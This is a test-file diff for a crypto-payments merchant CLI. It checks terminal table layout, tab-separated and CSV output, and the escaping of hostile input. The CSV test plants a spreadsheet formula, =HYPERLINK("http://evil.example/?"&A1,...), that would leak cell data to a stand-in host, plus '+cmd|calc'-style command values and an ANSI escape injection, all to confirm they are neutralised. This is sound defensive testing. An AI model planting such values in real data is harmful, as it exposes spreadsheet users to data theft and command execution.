@@ -1,0 +1,155 @@
+/**
+ * Tables for a terminal, a pipe and a spreadsheet (issue #15 item 4). The terminal runs are a
+ * real pseudo-terminal (util-linux `script`) at COLUMNS=80.
+ */
+import { describe, expect, it } from 'vitest';
+import { evmTx, EVM_TO, HAS_SCRIPT, paidOrder, runPty, SLOW, stripAnsi, TRON_CHAIN, USDT_ETH, USDT_TRON, withMerchant, type Sandbox } from './_support.js';
+
+const TRON_TO = 'TNPeeaaFB7K9cmo4uQpcU32zGK8G1NYqeL';
+const BOX = /[│┌┐└┘├┤┬┴┼─]/;
+
+/** A ledger with a paid order and two withdrawals (EVM, TRON), one of them confirmed. */
+async function withWithdrawals(): Promise<Sandbox & { mchId: string; confirmTx: string; orderId: string }> {
+  const s = await withMerchant();
+  const orderId = await paidOrder(s, 'T-1', 'user-1', '100');
+  const evm = await s.json<{ id: string }>(['withdraw', 'apply', '--uid', 'user-1', '--amount', '12.5', '--to', EVM_TO, '--chain-id', '1', '--chain-type', 'EVM', '--token', USDT_ETH]);
+  await s.json(['withdraw', 'apply', '--uid', 'user-1', '--amount', '3', '--to', TRON_TO, '--chain-id', TRON_CHAIN, '--chain-type', 'TRON', '--token', USDT_TRON]);
+  const confirmTx = evmTx();
+  await s.json(['withdraw', 'confirm', evm.id, '--tx-hash', confirmTx, '--block-number', '19000000', '--yes']);
+  return Object.assign(s, { confirmTx, orderId });
+}
+
+/** Columns a line of terminal text takes (every character here is one column wide). */
+const widest = (text: string) => Math.max(...text.split(/\r?\n/).map((l) => [...l].length));
+
+describe.skipIf(!HAS_SCRIPT).concurrent('on a terminal 80 columns wide', { timeout: SLOW }, () => {
+  it('withdraw list and log fit in 80 columns: no borders, no row dividers, addresses and hashes shortened in the middle, ids whole, relative times', async () => {
+    const s = await withWithdrawals();
+    const env = { COLUMNS: '80', NO_COLOR: '1' };
+    const [list, log] = await Promise.all([runPty(['--db', s.db, 'withdraw', 'list'], { env }), runPty(['--db', s.db, 'log'], { env })]);
+    for (const r of [list, log]) {
+      expect(r.code, r.text).toBe(0);
+      expect(widest(r.text), r.text).toBeLessThanOrEqual(80);
+      expect(r.text).not.toMatch(BOX);
+    }
+    const ids = (await s.json<{ id: string }[]>(['withdraw', 'list'])).map((w) => w.id);
+    // One line per withdrawal under one header, each with its whole id.
+    const lines = list.text.trim().split(/\r?\n/);
+    expect(lines[0]).toMatch(/^ID\s+UID\s+AMOUNT\s+TO\b/);
+    for (const id of ids) expect(lines.filter((l) => l.startsWith(id))).toHaveLength(1);
+    // Addresses shortened in the middle, never whole.
+    expect(list.text).toContain(`${EVM_TO.slice(0, 6)}…${EVM_TO.slice(-4)}`);
+    expect(list.text).toContain(`${TRON_TO.slice(0, 5)}…${TRON_TO.slice(-4)}`);
+    expect(list.text).not.toContain(EVM_TO);
+    // What did not fit is named, not silently dropped.
+    expect(list.text).toMatch(/left out to fit 80 columns: .*created/);
+
+    // The log: relative times, hashes shortened, each entry's details under it.
+    expect(log.text).toMatch(/^TIME\s+ACTOR\s+ACTION\s+SUBJECT/m);
+    expect(log.text).toMatch(/^(just now|\d+ min ago)\s+\S+\s+withdrawal\.confirmed\s+wd_/m);
+    expect(log.text).toContain(`txHash=${s.confirmTx.slice(0, 6)}…${s.confirmTx.slice(-4)}`);
+    expect(log.text).not.toContain(s.confirmTx);
+    expect(log.text).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:\d\d/);
+  });
+
+  it('TERM=dumb: plain ASCII, still fitted and shortened', async () => {
+    const s = await withWithdrawals();
+    const env = { COLUMNS: '80', TERM: 'dumb' };
+    const runs = await Promise.all([['withdraw', 'list'], ['log'], ['order', 'list'], ['refund', 'list'], ['merchant', 'list'], ['chains']].map((args) => runPty(['--db', s.db, ...args], { env })));
+    for (const r of runs) {
+      expect(r.code, r.text).toBe(0);
+      // eslint-disable-next-line no-control-regex
+      expect(r.out, r.text).toMatch(/^[\x00-\x7f]*$/);
+      expect(r.out).not.toContain('\x1b');
+      expect(widest(r.text), r.text).toBeLessThanOrEqual(80);
+    }
+    expect(runs[0]!.text).toContain(`${EVM_TO.slice(0, 6)}...${EVM_TO.slice(-4)}`);
+  });
+
+  it('a wider terminal shows every column; text a terminal could act on is shown as a mark', async () => {
+    const s = await withWithdrawals();
+    await s.ok(['refund', '--id', s.orderId, '--amount', '1', '--remark', 'red \x1b[31mALERT\x1b[0m', '--yes']);
+    const [wide, refunds] = await Promise.all([
+      runPty(['--db', s.db, 'withdraw', 'list'], { env: { COLUMNS: '160', NO_COLOR: '1' } }),
+      runPty(['--db', s.db, 'refund', 'list'], { env: { COLUMNS: '160', NO_COLOR: '1' } }),
+    ]);
+    expect(wide.code, wide.text).toBe(0);
+    expect(wide.text).toMatch(/^ID\s+UID\s+AMOUNT\s+TO\s+CHAIN\s+STATUS\s+TX HASH\s+CREATED/m);
+    expect(wide.text).not.toMatch(/left out/);
+    expect(wide.text).toMatch(/TRON 728126428/);
+    expect(refunds.out).not.toContain('\x1b[31m');
+    expect(refunds.text).toContain('red \ufffd[31mALERT');
+  });
+});
+
+describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => {
+  it('piped: a header row, then tab-separated rows with every value whole and times in ISO 8601', async () => {
+    const s = await withWithdrawals();
+    const out = await s.ok(['withdraw', 'list']);
+    const [head, ...rows] = out.trimEnd().split('\n').map((l) => l.split('\t'));
+    expect(head).toEqual(['id', 'uid', 'amount', 'to', 'chain', 'status', 'tx hash', 'created']);
+    expect(rows).toHaveLength(2);
+    const evm = rows.find((r) => r[3] === EVM_TO)!;
+    expect(evm[6]).toBe(s.confirmTx);
+    expect(evm[7]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
+    expect(rows.find((r) => r[3] === TRON_TO)![4]).toBe(`TRON ${TRON_CHAIN}`);
+    // An empty list is still its header.
+    expect(await s.ok(['order', 'list', '--status', 'EXPIRED'])).toBe('id\toid\tuid\tamount\tstatus\tpaid\trefunded\texpires\n');
+  });
+
+  it('piped: a tab or newline inside a value cannot split a row', async () => {
+    const s = await withMerchant();
+    const id = await paidOrder(s, 'P-1', 'u1', '10');
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'line one\nline\ttwo \\ end', '--yes']);
+    const out = await s.ok(['refund', 'list']);
+    const lines = out.trimEnd().split('\n');
+    expect(lines).toHaveLength(2);
+    expect(lines[1]!.split('\t')[4]).toBe('line one\\nline\\ttwo \\\\ end');
+  });
+
+  it('--format csv: RFC 4180 quoting, whole values, and no cell that a spreadsheet would run as a formula', async () => {
+    const s = await withMerchant();
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const id = await paidOrder(s, formula, '@SUM(1+1)', '10');
+    await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'dented, "badly"', '--yes']);
+    const [orders, refunds] = await Promise.all([s.ok(['--format', 'csv', 'order', 'list']), s.ok(['--format', 'csv', 'refund', 'list'])]);
+    const orderLines = orders.split('\r\n');
+    expect(orderLines[0]).toBe('id,oid,uid,amount,status,paid,refunded,expires');
+    expect(orderLines[1]).toBe(`${id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),10,PAID,10,1,${orderLines[1]!.split(',').at(-1)}`);
+    expect(orderLines[1]!.split(',').at(-1)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
+    expect(orders.endsWith('\r\n')).toBe(true);
+    expect(refunds).toContain(',"dented, ""badly""",');
+
+    // + and - start formulas too; a plain number is left alone (a spreadsheet reads it as the number it is).
+    await s.json(['order', 'create', '--oid', '+cmd|calc', '--uid', '-5', '--amount', '1']);
+    await s.json(['order', 'create', '--oid', '-2+3', '--uid', ' =1+1', '--amount', '1']);
+    const more = (await s.ok(['--format', 'csv', 'order', 'list'])).split('\r\n').map((l) => l.split(','));
+    expect(more.find((r) => r[1] === "'+cmd|calc")![2]).toBe('-5');
+    expect(more.find((r) => r[1] === "'-2+3")![2]).toBe("' =1+1");
+  });
+
+  it('--format json is --json; --format with --json is a usage error; an unknown format is a usage error', async () => {
+    const s = await withWithdrawals();
+    const [asJson, viaFormat, both, unknown] = await Promise.all([
+      s.run(['--json', 'withdraw', 'list']),
+      s.run(['--format', 'json', 'withdraw', 'list']),
+      s.run(['--json', '--format', 'csv', 'withdraw', 'list']),
+      s.run(['withdraw', 'list', '--format', 'xls']),
+    ]);
+    expect(viaFormat.code).toBe(0);
+    expect(JSON.parse(viaFormat.stdout)).toEqual(JSON.parse(asJson.stdout));
+    expect(both.code).toBe(2);
+    expect(both.stderr).toMatch(/--json and --format csv/);
+    expect(unknown.code).toBe(2);
+    expect(unknown.stderr).toMatch(/table, tsv, csv, json/);
+  });
+
+  it('--format table in a pipe: the terminal table, fitted to COLUMNS', async () => {
+    const s = await withWithdrawals();
+    const r = await s.run(['--format', 'table', 'withdraw', 'list'], { env: { COLUMNS: '100' } });
+    expect(r.code, r.stderr).toBe(0);
+    expect(stripAnsi(r.stdout)).toMatch(/^ID\s+UID\s+AMOUNT/);
+    expect(widest(r.stdout)).toBeLessThanOrEqual(100);
+    expect(r.stdout).toContain(`${EVM_TO.slice(0, 6)}…`);
+  });
+});
